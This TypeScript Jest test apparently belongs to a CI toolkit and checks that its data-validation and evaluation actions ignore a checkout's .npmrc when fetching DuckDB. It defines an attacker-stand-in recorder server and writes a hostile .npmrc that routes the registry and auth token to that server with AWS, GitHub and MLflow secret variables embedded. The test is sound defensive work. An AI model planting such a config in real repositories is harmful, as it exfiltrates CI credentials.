import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, expect, it } from '@jest/globals';
import { runStep } from '@sluice/testing/action.ts';
import { createRepository, type TestRepository } from '@sluice/testing/repository.ts';
import { temporaryFolder } from '@sluice/testing/temporary.ts';

/*
 * Files that a pull request brings, or that somebody left in the checkout, choose neither what runs in a step nor who gets
 * its secrets.
 */

const PREDICTIONS = 'id,label,prediction\n1,1,1\n2,0,0\n';
const GATE = {
  model: 'flight',
  predictions: 'p.csv',
  rules: '- {metric: accuracy, direction: higher, min: 0.1}',
  comment: 'never',
};

const servers: Server[] = [];
const repositories: TestRepository[] = [];
afterEach(async () => {
  for (const server of servers.splice(0)) server.close();
  for (const repository of repositories.splice(0)) await repository.remove();
});

async function checkout(files: Readonly<Record<string, string>>): Promise<TestRepository> {
  const repository = await createRepository(files);
  repositories.push(repository);
  return repository;
}

/** A server of the attacker: keeps what it was sent and knows nothing. */
async function recorder(): Promise<{
  origin: string;
  seen: { path: string; headers: IncomingHttpHeaders }[];
}> {
  const seen: { path: string; headers: IncomingHttpHeaders }[] = [];
  const server = createServer((request, response) => {
    seen.push({ path: request.url ?? '', headers: request.headers });
    response.writeHead(404).end();
  });
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen };
}

it.each([
  ['validate-data', { data: 'p.csv' }],
  ['evaluate-gate', GATE],
] as const)(
  '%s fetches DuckDB without the .npmrc of the checkout',
  async (action, inputs) => {
    const attacker = await recorder();
    const { workspace } = await checkout({
      'p.csv': PREDICTIONS,
      'package.json': '{}',
      '.npmrc': [
        `@duckdb:registry=${attacker.origin}/\${AWS_SECRET_ACCESS_KEY}/\${INPUT_GITHUB-TOKEN}/`,
        `//${attacker.origin.slice('http://'.length)}/:_authToken=\${MLFLOW_TRACKING_TOKEN}`,
      ].join('\n'),
    });
    // A tool cache below the checkout: npm looks for a project in the folders above it, too.
    const step = await runStep(action, {
      workspace,
      inputs,
      env: {
        RUNNER_TOOL_CACHE: `${workspace}/.tools`,
        SLUICE_DUCKDB_PATH: '',
        npm_config_cache: await temporaryFolder('npm'),
        npm_config_registry: 'http://127.0.0.1:9/',
        npm_config_fetch_retries: '0',
        AWS_SECRET_ACCESS_KEY: 'aws-secret',
        MLFLOW_TRACKING_TOKEN: 'mlflow-secret',
      },
    });
    expect(step.outputs['reason-code']).toBe('service-unavailable');
    expect(step.stdout).toContain('npm could not fetch @duckdb');
    expect(attacker.seen).toEqual([]);
  },
  60_000,
);
